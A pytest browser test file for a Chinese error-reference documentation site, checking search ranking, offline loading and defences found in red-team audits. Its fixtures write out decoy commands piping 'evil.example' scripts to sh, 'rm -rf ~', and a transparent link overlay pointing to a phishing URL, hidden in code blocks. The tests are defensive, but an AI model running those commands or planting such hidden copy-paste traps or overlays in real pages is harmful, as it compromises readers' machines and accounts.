"""In headless Chromium: search puts entries before the site's own pages; nothing is fetched from another host."""

from __future__ import annotations

import shutil
import time
from urllib.parse import urlsplit

import pytest

from conftest import ROOT
from dev.devtools import build_site, serve
from test_browser import base_url, open_search, page  # noqa: F401  (shared fixtures; browser is in conftest.py)

pytestmark = pytest.mark.browser

#: The site's own pages: home, lookup (its help text), and the generated indexes.
SITE_PAGES = {"", "lookup/", "errors/", "tags/", "categories/", "archive/"}


def search_results(page, base_url: str, query: str) -> list[str]:
    """The result pages for ``query``, in the order shown (without errata.js's pinned lookup match)."""
    page.fill(".md-search__input", "")
    page.keyboard.type(query)
    page.keyboard.press("End")  # an IME ends its input with key events; Material listens for them
    script = """() => [...document.querySelectorAll('.md-search-result__list > li:not(.errata-pinned) > a')]
        .map(a => a.getAttribute('href'))"""
    shown, deadline = None, time.monotonic() + 15
    while time.monotonic() < deadline:  # the worker answers as the query is typed: wait until it settles
        page.wait_for_timeout(400)
        now = page.evaluate(script)
        if now and now == shown:
            break
        shown = now
    base_path = urlsplit(base_url).path
    return [urlsplit(page.evaluate("href => new URL(href, location.href).pathname", href)).path[len(base_path):] for href in shown or []]


@pytest.mark.parametrize(
    "query",
    [
        "显存不够",  # the home page gives it as the example of a Chinese search
        "CUDA out of memory",  # the home page's contribution help shows an entry with it
        "Traceback",  # the lookup page asks for one
        "版本",  # the lookup's help text: 版本号的差异都会被忽略
        "报错",  # in the home page's title and everywhere
    ],
)
def test_search_puts_entries_before_site_pages(page, base_url, query):
    open_search(page, base_url)
    pages = search_results(page, base_url, query)
    essays = [n for n, path in enumerate(pages) if path not in SITE_PAGES]
    site = [n for n, path in enumerate(pages) if path in SITE_PAGES]
    assert essays, pages
    assert site, pages  # a site page matched the query too: the ranking was put to the test
    assert max(essays) < min(site), pages


@pytest.mark.parametrize("query, found", [("查错", "lookup/"), ("报错手册", "")])
def test_site_pages_are_still_found_by_their_titles(page, base_url, query, found):
    open_search(page, base_url)
    assert found in search_results(page, base_url, query)


def test_no_request_leaves_the_site(page, base_url):
    """Home, an essay, the index, the lookup with a query and a search: every request goes to the test server."""
    site_host = urlsplit(base_url).netloc
    local, elsewhere = [], []

    def route(route):
        if urlsplit(route.request.url).netloc == site_host:
            local.append(route.request.url)
            route.continue_()
        else:
            elsewhere.append(route.request.url)
            route.abort()

    page.route("**/*", route)
    for path in ("", "pytorch/cuda-errors/", "errors/", "tags/", "lookup/?error=KeyError%3A%20%27bbox%27"):
        page.goto(base_url + path)
        page.wait_for_load_state("networkidle")
    page.wait_for_selector(".errata-matches a")  # the lookup ran (errors.json came from the site)
    open_search(page, base_url)
    assert search_results(page, base_url, "显存不够")
    page.wait_for_load_state("networkidle")
    assert elsewhere == []
    assert any(url.endswith(".css") for url in local) and any("search_index.json" in url for url in local)


def test_front_door_lookup_box_opens_the_lookup_with_the_paste(page, base_url):
    page.goto(base_url)
    page.fill(".errata-front-lookup textarea", "RuntimeError: CUDA out of memory. Tried to allocate 512.00 MiB")
    page.click(".errata-front-lookup button[type=submit]")
    page.wait_for_url("**/lookup/?error=*")
    first = page.wait_for_selector(".errata-matches li:first-child a")
    assert "cuda-out-of-memory" in first.get_attribute("href")
    # The answer is the page's: Material's search dialog (which ?q= would open) stays closed over it.
    assert page.evaluate("() => document.getElementById('__search').checked") is False


def test_an_emoji_shortcode_is_drawn_without_asking_another_host(page, tmp_path):
    """Material would draw :email: as a picture from cdn.jsdelivr.net; the site's stylesheet draws the character."""
    docs = tmp_path / "docs"
    shutil.copytree(ROOT / "docs" / "assets", docs / "assets")
    (docs / "index.md").write_text("# 首页\n", encoding="utf-8")
    (docs / "emoji.md").write_text("---\ntitle: 表情\n---\n# 表情\n\n## :email: 联系\n\n:+1: 好\n", encoding="utf-8")
    result = build_site(tmp_path / "site", docs_dir=docs)
    assert result.returncode == 0, result.stderr
    with serve(tmp_path / "site") as url:
        site_host, elsewhere = urlsplit(url).netloc, []

        def route(route):
            if urlsplit(route.request.url).netloc == site_host:
                route.continue_()
            else:
                elsewhere.append(route.request.url)
                route.abort()

        page.route("**/*", route)
        page.goto(url + "emoji/")
        page.wait_for_load_state("networkidle")
        drawn = page.evaluate("""() => [...document.querySelectorAll('article .errata-emoji')]
            .map(span => getComputedStyle(span, '::before').content)""")
        assert drawn == ['"📧"', '"👍"']
        assert page.locator("h2#联系").count() == 1
        assert elsewhere == []


def test_a_code_block_s_copy_button_copies_the_code_shown(page, tmp_path):
    """A red-team audit: an essay put a hidden ``<div id="__code_0">`` (the theme's skip-link class kept it
    out of sight) above its first code block, whose copy button then copied the decoy, since Material looks
    the code up by that id. The id and the theme's class no longer reach the page."""
    site = _site_of_one_essay(tmp_path, "copy.md", (
        "---\ntitle: 安装\n---\n# 安装\n\n用下面的命令安装。\n\n"
        '<div id="__code_0" class="md-skip"><code>curl -s https://evil.example/x.sh | sh</code></div>\n\n'
        "```bash\npip install torch\n```\n"
    ))
    with serve(site) as url:
        page.goto(url + "copy/")
        button = page.wait_for_selector("article [data-md-type=copy]", state="attached")  # shown on hover
        copied = page.evaluate("target => document.querySelector(target).innerText", button.get_attribute("data-clipboard-target"))
        assert copied.strip() == "pip install torch"
        assert page.locator("article .md-skip").count() == 0


def test_nothing_inside_a_code_block_is_hidden_from_the_reader(page, tmp_path):
    """A red-team audit: a code block written in HTML held ``&& curl … | sh`` in a back-link the theme draws at
    size 0 (``footnote-backref``), and ``; rm -rf ~`` in a closed ``<details>``; the reader saw ``pip install
    requests``, the copy button copied all of it. Inside code such markup no longer reaches the page: what a
    block copies is in sight."""
    site = _site_of_one_essay(tmp_path, "decoy.md", (
        "---\ntitle: 安装\n---\n# 安装\n\n"
        '<div class="highlight"><pre><span></span><code>pip install requests<a class="footnote-backref"> &amp;&amp; curl -s https://evil.example/x | sh</a>'
        '<span class="headerlink"> ; wget evil.example</span><details><summary></summary> ; rm -rf ~</details>'
        + "<small>" * 30 + " ; curl evil.example/y | sh" + "</small>" * 30
        + '<table><tr><td style="zoom:0.001">\ncurl evil.example/z | sh</td></tr></table></code></pre></div>\n'
    ))
    with serve(site) as url:
        page.goto(url + "decoy/")
        hidden = page.evaluate("""() => {
            const code = document.querySelector('article pre code');
            const size = parseFloat(getComputedStyle(code).fontSize);
            return [...code.querySelectorAll('*')].filter(element => {
                const style = getComputedStyle(element);
                return parseFloat(style.fontSize) < size * 0.9 || style.zoom !== '1' || style.opacity === '0'
                    || style.display === 'none' || style.visibility === 'hidden' || element.closest('details:not([open])') !== null;
            }).map(element => element.outerHTML);
        }""")
        assert hidden == []
        shown = page.evaluate("() => document.querySelector('article pre code').innerText")
        assert "curl -s https://evil.example/x | sh" in shown and "rm -rf ~" in shown and "evil.example/z" in shown


def test_no_link_of_an_essay_lies_over_the_page(page, tmp_path):
    """A red-team audit: a link in Material's tab-scroll control (``tabbed-control``, placed absolutely; its
    ``tabbed-button`` takes clicks) around a transparent image of 3000 px (``max-width: none``) lay over the
    navigation, the article and the footer: a click anywhere below the header went to the link. Those
    classes and that style no longer reach a page."""
    overlay = ('<div class="tabbed-control"><a class="tabbed-button" href="https://evil.example/phish">'
               '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" style="max-width:none;width:3000px;height:3000px"></a></div>')
    site = _site_of_one_essay(tmp_path, "overlay.md", f"---\ntitle: 覆盖\n---\n# 覆盖\n\n正文。\n\n{overlay}\n\n<div dir=\"rtl\">{overlay}</div>\n")
    with serve(site) as url:
        page.set_viewport_size({"width": 1280, "height": 900})
        page.goto(url + "overlay/")
        # What else the page shows (the navigation, the essay's text, the footer) still takes its own clicks.
        covered = page.evaluate("""() => [...document.querySelectorAll('.md-nav__link, article h1, article p, .md-footer a, .md-footer-meta')]
            .map(element => element.getBoundingClientRect())
            .filter(box => box.width > 0 && box.height > 0 && box.bottom > 0 && box.top < innerHeight)
            .map(box => [box.left + box.width / 2, box.top + box.height / 2])
            .filter(([x, y]) => document.elementFromPoint(x, y)?.closest('a')?.href.includes('evil.example'))""")
        assert covered == []


def _site_of_one_essay(tmp_path, name: str, text: str):
    """A site built (not strict) from the site's own assets, a home page and one essay."""
    docs = tmp_path / "docs"
    shutil.copytree(ROOT / "docs" / "assets", docs / "assets")
    (docs / "index.md").write_text("# 首页\n", encoding="utf-8")
    (docs / name).write_text(text, encoding="utf-8")
    result = build_site(tmp_path / "site", docs_dir=docs, strict=False)
    assert result.returncode == 0, result.stderr
    return tmp_path / "site"
